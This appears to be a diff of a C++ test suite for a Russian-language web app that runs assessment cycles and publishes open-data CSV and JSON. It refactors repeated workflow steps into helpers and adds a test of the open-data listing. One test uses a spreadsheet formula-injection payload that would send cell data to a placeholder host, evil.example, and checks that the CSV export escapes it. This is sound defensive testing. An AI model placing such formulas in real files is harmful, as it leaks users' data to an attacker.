@@ -37,6 +37,20 @@ class CyclePages : public StaffSite {
                 "event=" + event + "&version=" + input_value(page, "version") + "&digest=" + input_value(page, "digest") + extra);
   }
 
+  // Puts the school alone on the cycle's list.
+  void list_school(const std::string& path) {
+    EXPECT_EQ(post(official, path + "/organisations", "version=" + version(path, official) + "&organisations=school")
+                  .status,
+              303);
+  }
+
+  // Takes a collecting cycle through the council to publication.
+  void publish_collected(const std::string& path) {
+    for (auto [who, event] : {std::pair{&survey_operator, "submit_to_council"}, {&council, "approve"},
+                              {&official, "publish"}})
+      EXPECT_EQ(step(*who, path, event).status, 303) << event;
+  }
+
   std::string state_of(const std::string& path) {
     const auto body = get(path, official.cookie).body;
     const std::string label = "Состояние: <strong>";
@@ -132,18 +146,13 @@ TEST_F(CyclePages, ACycleRunsFromOpeningToPublicationAndOpenData) {
 
 TEST_F(CyclePages, ACorrectionIsANewEditionAndTheOldOneStaysAsHistory) {
   const auto path = open_cycle();
-  ASSERT_EQ(post(official, path + "/organisations", "version=" + version(path, official) + "&organisations=school")
-                .status,
-            303);
-  for (auto [who, event] : {std::pair{&official, "start_collecting"}, {&survey_operator, "submit_to_council"},
-                            {&council, "approve"}, {&official, "publish"}})
-    ASSERT_EQ(step(*who, path, event).status, 303) << event;
+  list_school(path);
+  ASSERT_EQ(step(official, path, "start_collecting").status, 303);
+  publish_collected(path);
   EXPECT_EQ(step(official, path, "correct").status, 422);  // a correction says what and why
   ASSERT_EQ(step(official, path, "correct", "&comment=" + encode("Ошибка в данных")).status, 303);
   EXPECT_TRUE(contains(get(path, official.cookie), "редакция результатов 2"));
-  for (auto [who, event] : {std::pair{&survey_operator, "submit_to_council"}, {&council, "approve"},
-                            {&official, "publish"}})
-    ASSERT_EQ(step(*who, path, event).status, 303) << event;
+  publish_collected(path);
   const auto history = get("/o/school/results");
   EXPECT_TRUE(contains(history, "редакция 2"));
   EXPECT_TRUE(contains(history, "Заменена исправленной редакцией"));
@@ -151,9 +160,7 @@ TEST_F(CyclePages, ACorrectionIsANewEditionAndTheOldOneStaysAsHistory) {
 
 TEST_F(CyclePages, OpenDataCsvGivesATextThatWouldRunAsAFormulaAsTextAndJsonAsWritten) {
   const auto path = open_cycle();
-  ASSERT_EQ(post(official, path + "/organisations", "version=" + version(path, official) + "&organisations=school")
-                .status,
-            303);
+  list_school(path);
   ASSERT_EQ(step(official, path, "start_collecting").status, 303);
   const std::string formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Подробнее\")";
   const auto result_path = path + "/o/school";
@@ -161,9 +168,7 @@ TEST_F(CyclePages, OpenDataCsvGivesATextThatWouldRunAsAFormulaAsTextAndJsonAsWri
                  "field=deficiencies&version=" + version(result_path, survey_operator) + "&text=" + encode(formula))
                 .status,
             303);
-  for (auto [who, event] : {std::pair{&survey_operator, "submit_to_council"}, {&council, "approve"},
-                            {&official, "publish"}})
-    ASSERT_EQ(step(*who, path, event).status, 303) << event;
+  publish_collected(path);
 
   const auto csv = get("/opendata/results.csv?year=" + std::to_string(year)).body;
   EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Подробнее\"\")\","), std::string::npos)
@@ -171,6 +176,34 @@ TEST_F(CyclePages, OpenDataCsvGivesATextThatWouldRunAsAFormulaAsTextAndJsonAsWri
   EXPECT_EQ(csv.find(",\"=HYPERLINK"), std::string::npos);
   const auto json = boost::json::parse(get("/opendata/results.json?year=" + std::to_string(year)).body);
   EXPECT_EQ(json.at("results").at(0).at("deficiencies").as_string(), formula);
+}
+
+TEST_F(CyclePages, OpenDataListsThePublishedYearsAndGivesTheLatestByDefault) {
+  EXPECT_TRUE(contains(get("/opendata"), "Опубликованных результатов пока нет"));
+  // Last year's cycle is published; this year's (the fixture's) is still collecting.
+  const int last_year = current_year() - 1;
+  auto created = post(official, "/cycles", "year=" + std::to_string(last_year) + "&sphere=education&operator=" +
+                                               encode("ООО «Опрос»"));
+  ASSERT_EQ(created.status, 303) << created.body;
+  const auto path = header(created, "Location");
+  list_school(path);
+  ASSERT_EQ(step(official, path, "start_collecting").status, 303);
+  publish_collected(path);
+
+  const auto page = get("/opendata");
+  EXPECT_TRUE(contains(page, std::to_string(last_year) + " год, организаций: 1")) << page.body;
+  EXPECT_FALSE(contains(page, std::to_string(current_year()) + " год,"));
+  EXPECT_TRUE(contains(page, "href=\"/opendata/results.csv?year=" + std::to_string(last_year) + "\""));
+  const auto csv = get("/opendata/results.csv");
+  EXPECT_TRUE(contains(csv, std::to_string(last_year) + ",77,")) << csv.body;
+  EXPECT_EQ(csv.body, get("/opendata/results.csv?year=" + std::to_string(last_year)).body);
+  EXPECT_NE(header(csv, "Content-Disposition")
+                .find(http::percent_encode("Результаты-независимой-оценки-" + std::to_string(last_year) + ".csv")),
+            std::string::npos);
+  EXPECT_EQ(boost::json::parse(get("/opendata/results.json").body).at("year").as_int64(), last_year);
+  const auto moved = get("/open-data");
+  EXPECT_EQ(moved.status, 301);
+  EXPECT_EQ(header(moved, "Location"), "/opendata");
 }
 
 TEST_F(CyclePages, EachRoleTakesOnlyItsStepsAndSeesOnlyItsScope) {
@@ -202,9 +235,7 @@ TEST_F(CyclePages, EachRoleTakesOnlyItsStepsAndSeesOnlyItsScope) {
 // view it, view a result, change its list, take its first step.
 TEST_F(CyclePages, EveryRoleAgainstACycle) {
   const auto path = open_cycle();
-  ASSERT_EQ(post(official, path + "/organisations", "version=" + version(path, official) + "&organisations=school")
-                .status,
-            303);
+  list_school(path);
   struct Case {
     const char *role, *org, *authority, *op;
     int list, view, result, edit_list, start;
